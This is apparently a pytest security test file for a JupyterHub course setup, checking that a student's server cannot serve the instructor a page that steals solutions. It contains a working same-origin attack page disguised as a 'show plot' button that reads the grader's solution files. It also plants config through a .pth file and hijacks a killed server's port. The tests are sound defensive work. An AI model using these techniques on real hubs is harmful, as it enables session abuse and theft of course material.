"""A student's own JupyterLab on the hub may not serve the course's staff a page of her making.

Every user's server answers under the hub's address (/user/<name>/), and the proxy hands that
path to whatever the user's server answers, to anyone who asks. A page a student could put
there would run in the instructor's browser on the hub's own origin: with the instructor's
session it opens the course's formgrader (the grader user's JupyterLab in the course folder)
and reads `solutions/`, or calls the hub's API as an admin. A student can reach her server's
settings from her own files: `~/.jupyter/jupyter_server_config.py` (JupyterLab reads it at
start) or a `.pth` file in `~/.local/lib/python3.X/site-packages` (Python runs it at start).

Here bob writes the first and dave the second, each making his server serve a page without a
login; the instructor opens each link as a student would send it. Nothing of the solutions may
reach the page. Root, chromium and configurable-http-proxy required (tests/hub/conftest.py).
"""

from __future__ import annotations

import shutil
import subprocess
import time
import urllib.request
from pathlib import Path

import pytest

import hub_clicks as B
from hub_machine import ENV, missing_requirements, start_hub

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

COURSE = "cs349e"
SOLUTION = "solutions/lec01_codesign/codesign.py"
DAVE_CONFIG = Path("/var/tmp/dave-jupyter")   # outside dave's home
# The student's page: its button opens a file of the course's formgrader in a window (the hub
# logs the instructor in to it without asking), then that window goes to the formgrader's file
# API and the page reads what it shows, as a same-origin page may. (The hub's servers refuse to be
# framed: a window, not a frame.)
PAGE = f"""<!doctype html><html><body><button id="plot">显示图</button><script>
window.stolen = "";
document.getElementById("plot").onclick = () => {{
  const w = window.open("/services/{COURSE}/files/README.md");
  setTimeout(() => {{ w.location = "/services/{COURSE}/api/contents/{SOLUTION}"; }}, 5000);
  setInterval(() => {{ try {{ window.stolen = w.document.body.innerText; }} catch (e) {{}} }}, 500);
}};
</script></body></html>
"""


def _as(user: str, script: str) -> None:
    subprocess.run(["/usr/sbin/runuser", "-u", user, "--", "bash", "-c", script], check=True, env={"PATH": "/usr/bin:/bin"})


def _plant(machine) -> None:
    """bob's and dave's files, written as they would write them in their own terminals."""
    _as("bob", f"""mkdir -p ~/.jupyter ~/pub && cat > ~/pub/plot.html <<'EOF'
{PAGE}EOF
echo 'c.ServerApp.extra_static_paths = ["'$HOME'/pub"]' > ~/.jupyter/jupyter_server_config.py""")
    shutil.rmtree(DAVE_CONFIG, ignore_errors=True)
    site = f"~/.local/lib/python{_python_version()}/site-packages"
    _as("dave", f"""mkdir -p {site} {DAVE_CONFIG}/pub && cat > {DAVE_CONFIG}/pub/plot.html <<'EOF'
{PAGE}EOF
echo 'c.ServerApp.extra_static_paths = ["{DAVE_CONFIG}/pub"]' > {DAVE_CONFIG}/jupyter_server_config.py
echo 'import os; os.environ["JUPYTER_CONFIG_PATH"] = "{DAVE_CONFIG}"' > {site}/zz_mine.pth""")


def _python_version() -> str:
    return next(p.name for p in (ENV / "lib").iterdir() if p.name.startswith("python"))[len("python"):]


@pytest.fixture(scope="module")
def hub():
    reason = missing_requirements()
    if reason:
        pytest.skip(f"the hub test {reason}")
    machine = start_hub(before_start=_plant)
    try:
        yield machine
    finally:
        machine.close()
        shutil.rmtree(DAVE_CONFIG, ignore_errors=True)


def _stolen(page, seconds: float = 60) -> str:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        stolen = page.evaluate("window.stolen || ''")
        if '"content"' in stolen:
            return stolen
        time.sleep(1)
    return page.evaluate("window.stolen || ''")


@pytest.mark.parametrize("student", ["bob", "dave"])
def test_a_students_server_serves_the_instructor_no_page_of_hers(hub, student):
    from playwright.sync_api import sync_playwright

    solution = (hub.course(COURSE).root / SOLUTION).read_text(encoding="utf-8")
    assert "def " in solution
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=B.CHROMIUM, args=B.CHROMIUM_FLAGS)
        try:
            B.login(browser, hub.url, student, hub.passwords[student]).wait_for_selector("#jp-main-dock-panel")
            teacher = B.login(browser, hub.url, "instructor", hub.passwords["instructor"])
            teacher.goto(f"{hub.url}/user/{student}/static/plot.html")
            if teacher.locator("#plot").count():   # the student's page was served: "show the plot"
                teacher.click("#plot")
            stolen = _stolen(teacher)
        finally:
            browser.close()
    assert '"content"' not in stolen and "def " not in stolen, stolen[:300]


def _server_of(user: str) -> tuple[int, int]:
    """(pid, port) of the user's JupyterLab the hub started."""
    pid = int(subprocess.run(["pgrep", "-u", user, "-f", "jupyterhub-singleuser"], capture_output=True, text=True,
                             check=True).stdout.split()[0])
    listening = subprocess.run(["ss", "-Hltnp"], capture_output=True, text=True, check=True).stdout
    port = next(int(line.split()[3].rsplit(":", 1)[1]) for line in listening.splitlines() if f"pid={pid}," in line)
    return pid, port


def _answers(url: str, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while True:
        try:
            with urllib.request.urlopen(url, timeout=5):
                return
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)


def test_on_one_origin_a_student_who_takes_her_servers_port_answers_the_staff(hub):
    """Why the hub does not start on one origin unless the courses file accepts it
    (deploy/jupyterhub/user_origins.py): alice stops her own server and binds its port with a
    server of her own before the hub notices. The proxy still sends /user/alice/ there, and the
    instructor who opens her link runs her page on the hub's origin. Only a subdomain per server
    (wildcard DNS and TLS) closes this; this test's hub runs on 127.0.0.1 with the risk accepted."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=B.CHROMIUM, args=B.CHROMIUM_FLAGS)
        try:
            B.login(browser, hub.url, "alice", hub.passwords["alice"]).wait_for_selector("#jp-main-dock-panel")
            teacher = B.login(browser, hub.url, "instructor", hub.passwords["instructor"])
            pid, port = _server_of("alice")
            _as("alice", f"""mkdir -p ~/www/user/alice && cat > ~/www/user/alice/plot.html <<'EOF'
{PAGE}EOF
cd ~/www && kill -KILL {pid} && setsid nohup python3 -c '
import http.server, time
for _ in range(300):
    try:
        server = http.server.ThreadingHTTPServer(("127.0.0.1", {port}), http.server.SimpleHTTPRequestHandler)
        break
    except OSError:
        time.sleep(0.1)
server.serve_forever()' >/dev/null 2>&1 &""")
            _answers(f"http://127.0.0.1:{port}/user/alice/plot.html")
            teacher.goto(f"{hub.url}/user/alice/plot.html")
            teacher.click("#plot")
            stolen = _stolen(teacher)
        finally:
            browser.close()
    assert '"content"' in stolen, stolen[:300]
